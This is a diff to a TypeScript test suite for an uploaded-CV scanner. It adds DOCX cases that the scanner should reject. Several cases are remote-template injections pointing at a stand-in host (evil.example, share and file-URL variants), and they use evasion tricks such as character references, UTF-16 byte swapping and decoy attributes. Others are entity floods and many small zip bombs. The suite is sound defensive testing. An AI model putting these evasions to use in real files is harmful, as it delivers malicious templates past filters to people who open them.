@@ -87,11 +87,18 @@ describe("PDF", () => {
 
 describe("DOCX", () => {
   const part = (name: string, content: string | Buffer, claims = {}) => docxFile([{ name, content, claims }]);
-  const template = (target: string) =>
-    part(
-      "word/_rels/settings.xml.rels",
-      `<Relationships><Relationship Type="http://x/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
-    );
+  const related = (relationships: string, name = "word/_rels/settings.xml.rels") =>
+    part(name, `<Relationships>${relationships}</Relationships>`);
+  const type = "http://x/attachedTemplate";
+  const template = (target: string, name?: string) =>
+    related(`<Relationship Type="${type}" Target="${target}" TargetMode="External"/>`, name);
+  const web = "https://evil.example/a.dotm";
+
+  /** Letters whose second byte is a quote or an angle end a value for a reader that takes the bytes one by one. */
+  const twoBytes = () => {
+    const xml = `<Relationship Type="${type}" Id="\u2200 Target=\u2200a\u2200/>\u3c00a \u2200" Target="${web}"/>`;
+    return Buffer.from(`\ufeff<Relationships>${xml}</Relationships>`, "utf16le").swap16();
+  };
 
   test("stored without compression", () => {
     expect(faultOf("cv.docx", docxFile([], { method: 0 }))).toBeUndefined();
@@ -101,14 +108,45 @@ describe("DOCX", () => {
     ["a macro project", part("word/vbaProject.bin", "x")],
     ["a macro project in other letters", part("word/VBAPROJECT.BIN", "x")],
     ["the type of documents with macros", part("[Content_Types].xml", 'ContentType="x.macroEnabled.main+xml"')],
-    ["a template from the web", template("https://evil.example/a.dotm")],
+    ["a template from the web", template(web)],
+    ["a template from another kind of server", template("ftp://evil.example/a.dotm")],
     ["a template from a share", template("\\\\evil\\a.dotm")],
+    ["a template from a share with slashes", template("//evil/a.dotm")],
+    ["a template from a share as a file's address", template("file:///\\\\evil\\a.dotm")],
+    ["a template from a share as a file's address with slashes", template("file:////evil/a.dotm")],
+    ["a template from another computer", template("file://evil/a.dotm")],
+    ["a template of settings with another name", template(web, "word/_rels/settings2.xml.rels")],
+    ["a template of settings in another folder", template(web, "else/_RELS/settings.xml.RELS")],
+    ["a template in single quotes", related(`<Relationship Type='${type}' Target='${web}'/>`)],
+    ["a template with blanks", related(`<Relationship Type = "${type}"\n Target\n=\t" ${web}"/>`)],
+    ["a template in another prefix", related(`<r:Relationship Type="${type}" Target="${web}"/>`)],
+    ["a template behind an angle", related(`<Relationship Id="a>b" Type="${type}" Target="${web}"/>`)],
+    ["a template behind a false one", related(`<Relationship Id=' Target="a" ' Type="${type}" Target="${web}"/>`)],
+    ["a template in decimal letters", template("&#104;ttps&#0058;//evil.example/a.dotm")],
+    ["a template in hexadecimal letters", template("&#x68;ttps&#x3A;//evil.example/a.dotm")],
+    ["a template with a line end in its address", template("ht&#10;tps://evil.example/a.dotm")],
+    ["a template in two bytes per letter", part("word/_rels/a.rels", twoBytes())],
+    ["a flood of such letters", related(`<a b="${"&#233;".repeat(1_000)}"/>`)],
+    ["a flood of templates", related(`<Relationship Type="${type}" Target="C:\\a"/>`.repeat(1_001))],
+    ["a template whose kind is in such letters", related(`<a Type="attached&#84;emplate" Target="${web}"/>`)],
   ])("with %s is refused for its macros", (_what, bytes) => {
     expect(faultOf("cv.docx", bytes)).toBe("fileMacros");
   });
 
-  test("made from a template on the writer's own disk is fine", () => {
-    expect(faultOf("cv.docx", template("file:///C:\\Templates\\Resume.dotx"))).toBeUndefined();
+  test.each([
+    "file:///C:\\Templates\\R&amp;D&#233;&#x110000;.dotx",
+    "file:///Users/eva/Resume.dotx",
+    "/Users/eva/Resume.dotx",
+    "C:\\Templates\\Resume.dotx",
+    "Macintosh HD:Users:eva:Resume.dotx",
+    "Normal.dotm",
+  ])("made from the template %s on the writer's own disk is fine", (target) => {
+    expect(faultOf("cv.docx", template(target))).toBeUndefined();
+  });
+
+  test("with a link to the web is fine", () => {
+    const link = related(`<Relationship Type="http://x/hyperlink" Target="${web}#attachedTemplate"/>`);
+    expect(faultOf("cv.docx", link)).toBeUndefined();
   });
 
   test.each([
@@ -125,6 +163,7 @@ describe("DOCX", () => {
     ["ten thousand parts", docxFile(Array.from({ length: 10_000 }, (_, at) => ({ name: `word/${at}`, content: "" })))],
     ["a bomb", part("word/media/a.bmp", "x", { size: 3_000_000_000 })],
     ["a bomb that hides its size", part("_rels/.rels", Buffer.alloc(20_000_000), { size: 10 })],
+    ["many bombs, each of them small enough", docxFile(smallBombs())],
     ["one part inside another", nested()],
     ["the same part twice", zipFile([...docxParts, ...docxParts])],
     ["two names for one part", part("word/a.xml", "x", { localName: "word/vbaProject.bin" })],
@@ -173,6 +212,11 @@ test("no bytes under any name break the inspection or take long", () => {
     { numRuns: 500 },
   );
 });
+
+function smallBombs() {
+  const content = Buffer.alloc(1_000_000, " ");
+  return Array.from({ length: 100 }, (_, at) => ({ name: `word/_rels/${at}.xml.rels`, content }));
+}
 
 /** Bombs are made of parts that share their packed bytes, each with a header that fits. */
 function nested(): Buffer {
